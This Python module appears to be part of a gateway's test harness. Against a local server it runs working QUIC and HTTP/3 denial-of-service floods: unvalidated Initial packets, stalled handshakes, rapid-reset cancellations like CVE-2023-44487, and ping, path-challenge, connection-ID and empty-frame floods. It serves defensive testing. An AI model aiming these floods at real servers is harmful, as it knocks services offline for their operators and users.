"""Attacks over QUIC: packets of addresses that are not proved, handshakes that do not end, and floods over HTTP/3."""

from __future__ import annotations

import itertools
import os
import socket
import ssl
import time
from collections.abc import Callable
from typing import TYPE_CHECKING

from aioquic.h3.connection import H3_ALPN
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicFrameType
from aioquic.quic.packet_builder import QuicPacketBuilder

from gateway.harness.http3 import DATAGRAM, H3_REQUEST_CANCELLED, Ended, Http3

if TYPE_CHECKING:
    from attacks.attackers import Attacker

SOURCE = "127.0.0.9"
INITIALS = 100
"""First packets that are made beforehand: making one takes longer than answering it."""
AT_ONCE = 50
WAITS = 0.05
WIDE = 1 << 30
"""A window that bounds nothing."""
ONE_WAY = 0x21
"""A kind of stream that nobody knows (RFC 9114 section 6.2.3)."""


def initials(attacker: Attacker) -> None:
    """First packets of connections that nobody wants: whoever is named as their sender gets what comes back."""
    made = [_begun(attacker)[1] for _ in range(INITIALS)]
    with _datagrams() as sock:
        for number, datagram in enumerate(itertools.cycle(made)):
            if not attacker.goes_on():
                break
            try:
                sock.sendto(datagram, ("127.0.0.1", attacker.port))
                attacker.got.sent += len(datagram)
            except BlockingIOError:
                pass
            if number % AT_ONCE == 0:
                attacker.got.back += _came(sock)
        time.sleep(WAITS)  # sleep: the attack is to wait
        attacker.got.back += _came(sock)


def quic_handshakes(attacker: Attacker) -> None:
    """The address is proved, the gate signs, and nothing more is said."""
    with _datagrams() as sock:
        while attacker.goes_on():
            quic, datagram = _begun(attacker)
            sock.sendto(datagram, ("127.0.0.1", attacker.port))
            attacker.got.sent += len(datagram)
            if (proof := _proof(quic, sock, attacker.port)) is not None:
                sock.sendto(proof, ("127.0.0.1", attacker.port))
                attacker.got.sent += len(proof)
                attacker.got.opened += 1


def unread(attacker: Attacker) -> None:
    """A large answer over each of many connections, of which nothing is acknowledged."""
    crowd: list[Http3] = []
    while attacker.goes_on():
        try:
            web = Http3(attacker.port, attacker.trust, source=SOURCE, window=WIDE)
        except (Ended, TimeoutError):
            time.sleep(WAITS)  # sleep: the attack is to wait
            continue
        web.ask("/large")
        crowd.append(web)
    for web in crowd:
        heard = -1
        while web.ended is None and len(web.came) > heard:
            heard = len(web.came)
            web.hear(0.001)
        if web.ended is None:
            attacker.got.held += 1
        else:
            attacker.got.closed += 1
        attacker.got.sent += sum(map(len, web.sent))
        web.close()
    attacker.got.opened = len(crowd)


def over_http3(
    step: Callable[[Http3], None], prepare: Callable[[Http3], None] | None = None
) -> Callable[[Attacker], None]:
    """The same step on one connection after another, until the gate has enough of each."""

    def attack(attacker: Attacker) -> None:
        while attacker.goes_on():
            try:
                web = Http3(attacker.port, attacker.trust, source=SOURCE)
            except (Ended, TimeoutError):
                time.sleep(WAITS)  # sleep: the attack is to wait
                continue
            attacker.got.opened += 1
            if prepare is not None:
                prepare(web)
            try:
                while attacker.goes_on():
                    step(web)
                    web.hear(0.001)
                    if web.ended is not None:
                        raise web.ended
                attacker.got.held += 1
            except Ended:
                attacker.got.closed += 1
            attacker.got.sent += sum(map(len, web.sent))
            attacker.got.back += sum(map(len, web.came))
            web.close()

    attack.__doc__ = step.__doc__
    return attack


def cancels(web: Http3) -> None:
    """A request and its end at once, as CVE-2023-44487 does over HTTP/2."""
    if not web.may_ask(AT_ONCE):
        return
    for _ in range(AT_ONCE):
        stream = web.ask("/", flush=False)
        web.quic.reset_stream(stream, H3_REQUEST_CANCELLED)
    web.flush()


def many_pings(web: Http3) -> None:
    """As many in a packet as it holds."""
    web.ping_often(800)


def pings(web: Http3) -> None:
    """PING."""
    web.quic.send_ping(1)
    web.flush()


def challenges(web: Http3) -> None:
    """PATH_CHALLENGE, each of which wants an answer."""
    pings(web)


def connection_ids(web: Http3) -> None:
    """Each ID that the gate gives is retired at once, so that it gives another."""
    web.quic.change_connection_id()
    pings(web)


def one_way_streams(web: Http3) -> None:
    """Streams of a kind that nobody knows, one after the other."""
    for _ in range(4):
        stream = web.quic.get_next_available_stream_id(is_unidirectional=True)
        web.quic.send_stream_data(stream, bytes([ONE_WAY | 0x40, 0]), end_stream=True)
    web.flush()


def empty_frames(web: Http3) -> None:
    """A body of frames that carry nothing."""
    stream = web.ask("/", "POST", body=True)
    web.quic.send_stream_data(stream, b"\x00\x00" * 500)
    web.flush()


def _challenge(builder: QuicPacketBuilder) -> None:
    builder.start_frame(QuicFrameType.PATH_CHALLENGE, capacity=9).push_bytes(os.urandom(8))


FLOODS: dict[str, tuple[Callable[[Attacker], None], str]] = {
    "cancelled requests": (over_http3(cancels), "http3-reset-flood"),
    "pings": (over_http3(pings, many_pings), "http3-ping-flood"),
    "path challenges": (over_http3(challenges, lambda web: web.fill(_challenge, 100)), "http3-path-flood"),
    "connection IDs": (over_http3(connection_ids), "http3-path-flood"),
    "one-way streams": (over_http3(one_way_streams), "http3-control-flood"),
    "empty frames": (over_http3(empty_frames), "http3-empty-frames-flood"),
}
"""Each flood, and the reason that it meets."""


def _begun(attacker: Attacker) -> tuple[QuicConnection, bytes]:
    """A connection, and its first packet."""
    configuration = QuicConfiguration(alpn_protocols=H3_ALPN, server_name="shop.example", verify_mode=ssl.CERT_NONE)
    quic = QuicConnection(configuration=configuration)
    quic.connect(("127.0.0.1", attacker.port), now=time.monotonic())
    return quic, quic.datagrams_to_send(now=time.monotonic())[0][0]


def _proof(quic: QuicConnection, sock: socket.socket, port: int) -> bytes | None:
    """The first packet again, with what the gate gave to who is reached at this address."""
    sock.settimeout(WAITS)
    try:
        while True:
            # What comes for one before is passed over.
            quic.receive_datagram(sock.recv(DATAGRAM), ("127.0.0.1", port), now=time.monotonic())
            for datagram, _ in quic.datagrams_to_send(now=time.monotonic()):
                return datagram
    except TimeoutError:
        return None


def _datagrams() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((SOURCE, 0))
    return sock


def _came(sock: socket.socket) -> int:
    """Bytes that have come."""
    sock.setblocking(False)
    came = 0
    try:
        while True:
            came += len(sock.recv(DATAGRAM))
    except BlockingIOError:
        return came
